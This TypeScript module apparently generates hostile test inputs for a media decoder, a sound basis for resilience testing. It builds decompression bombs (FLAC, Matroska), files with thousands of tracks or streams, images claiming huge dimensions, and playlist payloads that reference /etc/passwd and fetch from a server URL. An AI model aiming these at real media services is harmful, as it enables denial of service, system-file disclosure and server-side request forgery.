// Files that attack a decoder: small ones that become hours of audio, thousands of streams, huge pictures, lists of other files.
import { deflateSync } from "node:zlib";

const ascii = (text: string) => Buffer.from(text, "latin1");
const be = (value: number, bytes: number) => {
	const buffer = Buffer.alloc(bytes);
	buffer.writeUIntBE(value, 0, bytes);
	return buffer;
};

/** Frames of 65,535 equal samples at 8 kHz, 8 seconds in 14 bytes. The header claims no length. */
export function makeFlacBomb(frames: number): Buffer {
	const rate = 8_000;
	// Block sizes, unknown frame sizes, rate, one channel, 8 bits, unknown length, no checksum.
	const info = Buffer.concat([
		be(65_535, 2),
		be(65_535, 2),
		Buffer.alloc(6),
		be((rate << 12) | (7 << 4), 4),
		Buffer.alloc(4 + 16),
	]);
	const frame = (number: number) => {
		const header = Buffer.concat([Buffer.from([0xff, 0xf8, 0x74, 0x02]), utf8Number(number), be(65_534, 2)]);
		const body = Buffer.concat([header, be(crc(header, 8, 0x07), 1), Buffer.from([0x00, 0x00])]);
		return Buffer.concat([body, be(crc(body, 16, 0x8005), 2)]);
	};
	return Buffer.concat([
		ascii("fLaC"),
		be(0x80, 1),
		be(info.length, 3),
		info,
		...Array.from({ length: frames }, (_, number) => frame(number)),
	]);
}

function utf8Number(value: number): Buffer {
	return Buffer.from(String.fromCodePoint(value), "utf8");
}

function crc(bytes: Uint8Array, bits: 8 | 16, polynomial: number): number {
	const mask = 2 ** bits - 1;
	let value = 0;
	for (const byte of bytes) {
		value ^= byte << (bits - 8);
		for (let bit = 0; bit < 8; bit++)
			value = (value & (1 << (bits - 1)) ? (value << 1) ^ polynomial : value << 1) & mask;
	}
	return value;
}

/** An element of Matroska. The length is always written in 8 bytes. */
function element(id: string, ...content: Uint8Array[]): Buffer {
	const body = Buffer.concat(content);
	return Buffer.concat([Buffer.from(id, "hex"), be(1, 1), Buffer.alloc(1), be(body.length, 6), body]);
}

const matroskaHeader = element(
	"1a45dfa3",
	element("4282", ascii("matroska")),
	element("4287", be(4, 1)),
	element("4285", be(2, 1)),
);

function matroskaTrack(number: number, ...content: Uint8Array[]): Buffer {
	return element(
		"ae",
		element("d7", be(number, 2)),
		element("73c5", be(number, 2)),
		element("83", be(2, 1)),
		element("86", ascii("A_PCM/INT/LIT")),
		element("e1", element("b5", float(8_000)), element("9f", be(1, 1)), element("6264", be(16, 1))),
		...content,
	);
}

function float(value: number): Buffer {
	const buffer = Buffer.alloc(4);
	buffer.writeFloatBE(value);
	return buffer;
}

/** Each block of 9 MB of silence, about ten minutes, takes 9 kB. */
export function makeMatroskaBomb(blocks: number): Buffer {
	const zipped = element(
		"6d80",
		element("6240", element("5031", be(0, 1)), element("5032", be(1, 1)), element("5034", element("4254", be(0, 1)))),
	);
	const packed = deflateSync(Buffer.alloc(9_000_000));
	const clusters = Array.from({ length: blocks }, (_, index) =>
		element("1f43b675", element("e7", be(index * 562_500, 4)), element("a3", Buffer.from([0x81, 0, 0, 0x80]), packed)),
	);
	return Buffer.concat([
		matroskaHeader,
		element("18538067", element("1654ae6b", matroskaTrack(1, zipped)), ...clusters),
	]);
}

export function makeMatroskaWithTracks(count: number): Buffer {
	const tracks = Array.from({ length: count }, (_, index) => matroskaTrack(index + 1));
	return Buffer.concat([matroskaHeader, element("18538067", element("1654ae6b", ...tracks))]);
}

/** A box of MP4. */
function box(type: string, ...content: Uint8Array[]): Buffer {
	const body = Buffer.concat(content);
	return Buffer.concat([be(body.length + 8, 4), ascii(type), body]);
}

export function makeMp4WithTracks(count: number): Buffer {
	const track = (id: number) =>
		box(
			"trak",
			box("tkhd", be(7, 4), Buffer.alloc(8), be(id, 4), Buffer.alloc(72)),
			box(
				"mdia",
				box("mdhd", Buffer.alloc(12), be(44_100, 4), be(44_100, 4), Buffer.alloc(4)),
				box("hdlr", Buffer.alloc(8), ascii("soun"), Buffer.alloc(13)),
				box("minf", box("smhd", Buffer.alloc(8)), box("stbl", box("stsd", Buffer.alloc(8)))),
			),
		);
	return Buffer.concat([
		box("ftyp", ascii("isom"), be(512, 4), ascii("isomiso2mp41")),
		box(
			"moov",
			box("mvhd", Buffer.alloc(12), be(1_000, 4), be(1_000, 4), Buffer.alloc(80)),
			...Array.from({ length: count }, (_, index) => track(index + 1)),
		),
	]);
}

/** Programs of 100 audio streams each, on nearly all of the 8,192 numbers that a stream can have. */
export function makeTransportStreamWithStreams(programs: number): Buffer {
	const section = (pid: number, table: Buffer) => {
		const packet = Buffer.alloc(188, 0xff);
		packet.writeUInt8(0x47, 0);
		packet.writeUInt16BE(0x4000 | pid, 1);
		packet.writeUInt8(0x10, 3);
		packet.writeUInt8(0, 4);
		table.copy(packet, 5);
		return packet;
	};
	const withCrc = (id: number, extension: number, content: Buffer) => {
		const body = Buffer.concat([
			be(id, 1),
			be(0xb000 | (content.length + 9), 2),
			be(extension, 2),
			Buffer.from([0xc1, 0, 0]),
			content,
		]);
		return Buffer.concat([body, be(crc32(body), 4)]);
	};
	const packets: Buffer[] = [];
	for (let program = 0; program < programs; program++) {
		const map = 0x20 + program;
		packets.push(section(0, withCrc(0, 1, Buffer.concat([be(program + 1, 2), be(0xe000 | map, 2)]))));
		// One packet has room for 30 streams; each version of a table replaces the one before and its streams stay.
		const streams = Array.from({ length: 30 }, (_, index) =>
			Buffer.concat([be(0x0f, 1), be(0xe000 | (0x200 + ((program * 30 + index) % 7_600)), 2), be(0xf000, 2)]),
		);
		packets.push(section(map, withCrc(2, program + 1, Buffer.concat([be(0xe200, 2), be(0xf000, 2), ...streams]))));
	}
	return Buffer.concat(packets);
}

function crc32(bytes: Uint8Array): number {
	let value = 0xffff_ffff;
	for (const byte of bytes) {
		value ^= byte << 24;
		for (let bit = 0; bit < 8; bit++) value = value & 0x8000_0000 ? (value << 1) ^ 0x04c1_1db7 : value << 1;
	}
	return value >>> 0;
}

/** A tag with a picture that claims to be as large as an image file can, in front of an mp3 file. */
export function addHugePicture(mp3: Uint8Array): Buffer {
	const chunk = (type: string, content: Buffer) =>
		Buffer.concat([be(content.length, 4), ascii(type), content, be(0, 4)]);
	const picture = Buffer.concat([
		Buffer.from("89504e470d0a1a0a", "hex"),
		chunk("IHDR", Buffer.concat([be(60_000, 4), be(60_000, 4), Buffer.from([8, 6, 0, 0, 0])])),
		chunk("IDAT", deflateSync(Buffer.alloc(240_001))),
		chunk("IEND", Buffer.alloc(0)),
	]);
	const body = Buffer.concat([Buffer.from([0]), ascii("image/png\0\x03\0"), picture]);
	const frame = Buffer.concat([ascii("APIC"), be(body.length, 4), be(0, 2), body]);
	const size = [21, 14, 7, 0].map((shift) => (frame.length >> shift) & 0x7f);
	return Buffer.concat([ascii("ID3"), Buffer.from([3, 0, 0, ...size]), frame, mp3]);
}

/** Sets the size of the picture of an MP4 file to the largest it can claim. */
export function enlargePicture(mp4: Uint8Array): Buffer {
	const file = Buffer.from(mp4);
	for (let at = file.indexOf("avc1"); at >= 0; at = file.indexOf("avc1", at + 4)) {
		if (at + 32 > file.length) break;
		file.writeUInt16BE(0xffff, at + 28);
		file.writeUInt16BE(0xffff, at + 30);
	}
	const track = file.indexOf("tkhd");
	if (track >= 0) {
		file.writeUInt32BE(0xffff_0000, track + 80);
		file.writeUInt32BE(0xffff_0000, track + 84);
	}
	return file;
}

/** Files that consist of the names of others, on this machine and on a server. */
export const playlists = (url: string): Record<string, string> => ({
	m3u8: `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXTINF:10,\n${url}/a.ts\n#EXT-X-ENDLIST\n`,
	"m3u8 with a key": `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"\n#EXTINF:10,\n${url}/a.ts\n`,
	ffconcat: `ffconcat version 1.0\nfile /etc/passwd\nfile ${url}/a.wav\n`,
	concat: `file '/etc/passwd'\nfile '${url}/a.wav'\n`,
	dash: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="audio/mp4"><BaseURL>${url}/</BaseURL><Representation id="1"><SegmentList><SegmentURL media="a.mp4"/></SegmentList></Representation></AdaptationSet></Period></MPD>`,
	sdp: "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n",
	pls: `[playlist]\nFile1=/etc/passwd\nFile2=${url}/a.mp3\nNumberOfEntries=2\n`,
	xspf: `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>${url}/a.mp3</location></track></trackList></playlist>`,
	asx: `<asx version="3.0"><entry><ref href="${url}/a.wma"/></entry></asx>`,
	svg: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/a.png"/></svg>`,
	html: `<!doctype html><script src="${url}/a.js"></script>`,
	"a name": `${url}/a.mp3`,
});
